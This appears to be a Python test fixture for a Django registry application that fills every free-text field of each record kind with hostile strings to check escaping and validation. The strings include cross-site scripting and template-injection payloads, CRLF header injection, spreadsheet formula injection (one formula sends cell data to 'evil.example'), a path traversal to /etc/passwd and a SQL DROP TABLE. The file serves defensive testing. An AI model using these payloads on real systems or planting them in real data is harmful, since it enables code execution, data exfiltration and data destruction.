"""Texts that mean harm, and one of each put into every text of every kind of record."""

from itertools import cycle

from django.core.exceptions import ValidationError
from django.db.models import CharField, TextField

from agreements.models import CodeOfConduct, Signatory
from partners.models import ArchivedCopy, Firm, Organization, Redirect, Source
from sosa_registry.ledger.fields import ImpreciseDateField
from sosa_registry.ledger.recording import Recorded, recorded_models, revision

# `hostile` is an element that no page of ours has; `boom` what would run.
MARKUP = (
    "<hostile onclick=boom()>",
    '"><img src=x onerror=boom()><hostile>',
    "'><svg onload=boom()><hostile>",
    "</title></script></textarea><script>boom()</script><hostile>",
    "<!--><hostile><style>@import'//evil.example'</style>",
    "]]><hostile><?xml-stylesheet href='//evil.example'?>",
    "&lt;hostile&gt;<math><mtext><hostile><mglyph>",
    "{{ boom }}{% boom %}${boom()}<hostile>",
    "[x](javascript:boom())<hostile>![](//evil.example)",
    "x\r\nSet-Cookie: boom=1\r\n\r\n<hostile>",
    "x\nBEGIN:VEVENT\nSUMMARY:boom\nEND:VEVENT",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1;"boom")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dWEBSERVICE(boom)",
    "boom;=1+1;@x",
    'boom\n=1+1,"',
    "boom\t=1+1",
)
STRANGE = (
    "\u202eboom\u202c",
    "\u2066boom",
    "\ufeff=1+1",
    "\u2028boom\u2029",
    "b\u0301" * 20,
    "%0d%0aSet-Cookie:%20boom=1",
    "../../../../etc/passwd",
    "'; DROP TABLE agreements_agreement; --",
    "javascript:boom()",
    "%s%n%x{0.__class__}",
)
TEXTS = (*MARKUP, *FORMULAS, *STRANGE)
# Whose words a rule holds to something else; they are tried one by one in `fill`.
APART = (Redirect,)


def texts_of(model: type[Recorded]) -> list:
    """The fields that take whatever is typed, but for what a record is known by."""
    own = {model.key_field, "media_type", "sha256", "subject", "subject_kind", "locator"}
    own |= {"framework"}
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, CharField | TextField)
        and not isinstance(field, ImpreciseDateField)
        and not (field.choices or field.is_relation or field.name in own)
    ]


def fill() -> dict[str, set[str]]:
    """Put hostile texts into one record of each kind; which fields took any, by kind."""
    with revision(actor="editor", reason="Kinds of which there are none"):
        Organization(slug="office", name="Office", country_id="SWE").save()
        Firm(slug="works", name="Works", country_id="SWE").save()
        Signatory(
            slug="swe-works",
            code=CodeOfConduct.objects.get(slug="coc-swe"),
            firm_id="works",
            joined="2020",
        ).save()
        ArchivedCopy(
            source=Source.objects.first(),
            name="a.pdf",
            media_type="application/pdf",
            size=1,
            sha256="0" * 64,
            archived_on="2026-01-01",
        ).save()
    taken, texts = {}, cycle(TEXTS)
    with revision(actor=MARKUP[1], reason=" ".join(MARKUP)):
        for model in recorded_models():
            if model in APART:
                continue
            for record in model.objects.order_by("pk")[:3]:
                for field in texts_of(model):
                    if _take(record, field, next(texts)):
                        taken.setdefault(model.__name__, set()).add(field.name)
                record.save()
                next(texts)  # so that a kind's next record gets others
    return taken


def _take(record, field, text: str) -> bool:
    """Whether the field's own rules take the text; it is left as it was if they do not."""
    before, text = getattr(record, field.name), text[: field.max_length]
    try:
        setattr(record, field.name, field.clean(text, record))
        record.full_clean()
    except ValidationError:
        setattr(record, field.name, before)
        return False
    return True
